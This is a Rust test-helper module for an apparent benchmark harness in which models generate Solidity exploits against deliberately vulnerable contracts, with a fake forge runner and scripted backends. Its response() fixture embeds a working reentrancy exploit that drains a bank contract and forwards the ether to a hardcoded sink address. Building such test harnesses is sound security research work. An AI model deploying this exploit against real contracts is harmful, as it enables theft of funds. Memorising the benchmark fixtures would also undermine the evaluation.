#![allow(dead_code)]

use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Mutex;
use std::time::Duration;

pub mod checks;

use rex_core::genbackend::{GenBackend, GenError, Prompt, ScriptedBackend};
use rex_core::genbackend::BackendKind;
use rex_core::harness::{BuildReport, HarnessError, TestReport, Toolchain};

pub const CORPUS: &[(&str, &str)] = &[
    ("reentrancy_bank.sol", include_str!("../corpus/reentrancy_bank.sol")),
    ("access_control_wallet.sol", include_str!("../corpus/access_control_wallet.sol")),
    ("arithmetic_token.sol", include_str!("../corpus/arithmetic_token.sol")),
    ("bad_randomness_lottery.sol", include_str!("../corpus/bad_randomness_lottery.sol")),
    ("front_running_puzzle.sol", include_str!("../corpus/front_running_puzzle.sol")),
    ("dos_auction.sol", include_str!("../corpus/dos_auction.sol")),
    ("time_manipulation_vault.sol", include_str!("../corpus/time_manipulation_vault.sol")),
    ("unchecked_call_relay.sol", include_str!("../corpus/unchecked_call_relay.sol")),
    ("inheritance_chain.sol", include_str!("../corpus/inheritance_chain.sol")),
    ("assembly_and_strings.sol", include_str!("../corpus/assembly_and_strings.sol")),
    ("unicode_comments.sol", include_str!("../corpus/unicode_comments.sol")),
    ("try_catch_router.sol", include_str!("../corpus/try_catch_router.sol")),
    ("metrics20.sol", include_str!("../corpus/metrics20.sol")),
];

pub fn corpus_source(name: &str) -> &'static str {
    CORPUS.iter().find(|(n, _)| *n == name).map(|(_, s)| *s).unwrap()
}

pub fn forge_fixture(name: &str) -> String {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/forge").join(name);
    std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

/// Stands in for forge: replies with recorded output chosen by a
/// `// forge: <mode>` marker in the project's `src/Exploit.sol`.
#[derive(Default)]
pub struct FakeForge {
    pub builds: AtomicUsize,
    pub tests: AtomicUsize,
    in_flight: AtomicUsize,
    pub max_in_flight: AtomicUsize,
    pub delay: Duration,
    pub projects: Mutex<Vec<PathBuf>>,
}

impl FakeForge {
    pub fn with_delay(delay: Duration) -> Self {
        Self {
            delay,
            ..Self::default()
        }
    }

    fn mode(project: &Path) -> String {
        let src = std::fs::read_to_string(project.join("src/Exploit.sol")).unwrap_or_default();
        src.lines()
            .find_map(|l| l.trim().strip_prefix("// forge:").map(|m| m.trim().to_string()))
            .unwrap_or_else(|| "revert".into())
    }

    fn enter(&self) {
        let now = self.in_flight.fetch_add(1, Ordering::SeqCst) + 1;
        self.max_in_flight.fetch_max(now, Ordering::SeqCst);
        std::thread::sleep(self.delay);
    }

    fn leave(&self) {
        self.in_flight.fetch_sub(1, Ordering::SeqCst);
    }
}

impl Toolchain for FakeForge {
    fn build(&self, project: &Path, log: &Path, _timeout: Duration) -> Result<BuildReport, HarnessError> {
        self.builds.fetch_add(1, Ordering::SeqCst);
        self.projects.lock().unwrap().push(project.to_path_buf());
        self.enter();
        let mode = Self::mode(project);
        let (text, code) = match mode.as_str() {
            "build-fail" => (forge_fixture("build_fail_two_errors.txt"), 1),
            "build-hang" => {
                std::fs::write(log, "").unwrap();
                self.leave();
                return Err(HarnessError::Timeout {
                    after_s: 0.0,
                    partial_output: String::new(),
                });
            }
            _ => (forge_fixture("build_ok.txt"), 0),
        };
        std::fs::write(log, &text).unwrap();
        self.leave();
        Ok(BuildReport::from_output(text, Some(code), 0.01))
    }

    fn test(&self, project: &Path, log: &Path, _timeout: Duration) -> Result<TestReport, HarnessError> {
        self.tests.fetch_add(1, Ordering::SeqCst);
        self.enter();
        let fixture = match Self::mode(project).as_str() {
            "pass" => "test_pass.txt",
            "overflow" => "test_panic_overflow.txt",
            "oog" => "test_reentrancy_outofgas.txt",
            "none" => "test_no_tests.txt",
            _ => "test_fail_revert.txt",
        };
        let text = forge_fixture(fixture);
        std::fs::write(log, &text).unwrap();
        self.leave();
        Ok(TestReport::from_output(text, 0.01))
    }
}

/// Counts generation calls per case on top of another backend.
pub struct Counting<B> {
    pub inner: B,
    pub calls: Mutex<Vec<(String, u32)>>,
}

impl<B> Counting<B> {
    pub fn new(inner: B) -> Self {
        Self {
            inner,
            calls: Mutex::new(Vec::new()),
        }
    }

    pub fn calls_for(&self, case_id: &str) -> usize {
        self.calls.lock().unwrap().iter().filter(|(c, _)| c == case_id).count()
    }

    pub fn total(&self) -> usize {
        self.calls.lock().unwrap().len()
    }
}

impl<B: GenBackend> GenBackend for Counting<B> {
    fn id(&self) -> &str {
        self.inner.id()
    }

    fn kind(&self) -> BackendKind {
        self.inner.kind()
    }

    fn generate(&self, prompt: &Prompt) -> Result<String, GenError> {
        self.calls.lock().unwrap().push((prompt.case_id.clone(), prompt.attempt_no));
        self.inner.generate(prompt)
    }
}

/// A model response whose exploit carries the fake-forge `mode` marker.
pub fn response(mode: &str) -> String {
    format!(
        "The withdraw function sends ether before updating the balance, so a receive hook can re-enter it.\n\n\
```solidity\n// FILE: Exploit.sol\n// forge: {mode}\npragma solidity 0.8.26;\nimport \"../src/Target.sol\";\n\n\
contract Exploit {{\n    EtherBank bank;\n    address sink = 0x5aaeb6053f3e94c9b9a09f33669435e7ef1beaed;\n\n\
    constructor(EtherBank b) {{ bank = b; }}\n\n    function attack() external payable {{\n        bank.deposit{{value: msg.value}}();\n        bank.withdraw();\n        sink.transfer(address(this).balance);\n    }}\n\n\
    receive() external payable {{\n        if (address(bank).balance >= msg.value) bank.withdraw();\n    }}\n}}\n```\n\n\
```solidity\n// FILE: Exploit.t.sol\npragma solidity 0.8.26;\nimport \"forge-std/Test.sol\";\nimport \"../src/Target.sol\";\nimport \"../src/Exploit.sol\";\n\n\
contract ExploitTest is Test {{\n    EtherBank bank;\n    Exploit exploit;\n\n    function setUp() public {{\n        bank = new EtherBank();\n        vm.deal(address(bank), 10 ether);\n        exploit = new Exploit(bank);\n    }}\n\n\
    function testExploit() public {{\n        exploit.attack{{value: 1 ether}}();\n        assertEq(address(bank).balance, 0);\n    }}\n}}\n```\n"
    )
}

pub struct Scenario {
    pub dir: tempfile::TempDir,
    pub manifest: PathBuf,
    pub fixtures: PathBuf,
}

impl Scenario {
    pub fn backend(&self) -> Counting<ScriptedBackend> {
        Counting::new(ScriptedBackend::new(&self.fixtures))
    }

    pub fn root(&self) -> PathBuf {
        self.dir.path().join("runs")
    }
}

/// Writes a manifest whose cases all use the reentrancy bank, plus scripted
/// responses: `cases` maps case id to the fake-forge mode of each attempt.
pub fn scenario(cases: &[(&str, &[&str])], config: serde_json::Value) -> Scenario {
    let dir = tempfile::tempdir().unwrap();
    let fixtures = dir.path().join("responses");
    std::fs::create_dir_all(dir.path().join("contracts")).unwrap();
    std::fs::write(
        dir.path().join("contracts/bank.sol"),
        corpus_source("reentrancy_bank.sol"),
    )
    .unwrap();
    let mut entries = Vec::new();
    for (id, modes) in cases {
        let case_dir = fixtures.join(id);
        std::fs::create_dir_all(&case_dir).unwrap();
        for (k, mode) in modes.iter().enumerate() {
            std::fs::write(case_dir.join(format!("attempt{}.md", k + 1)), response(mode)).unwrap();
        }
        entries.push(serde_json::json!({
            "case_id": id,
            "source": "contracts/bank.sol",
            "vuln_class": "Reentrancy",
            "preprocess": ["strip_comments", "migrate_pragma"],
            "provenance": "embedded test corpus"
        }));
    }
    let manifest = dir.path().join("manifest.json");
    let doc = serde_json::json!({"version": 1, "config": config, "cases": entries});
    std::fs::write(&manifest, serde_json::to_vec_pretty(&doc).unwrap()).unwrap();
    Scenario { dir, manifest, fixtures }
}
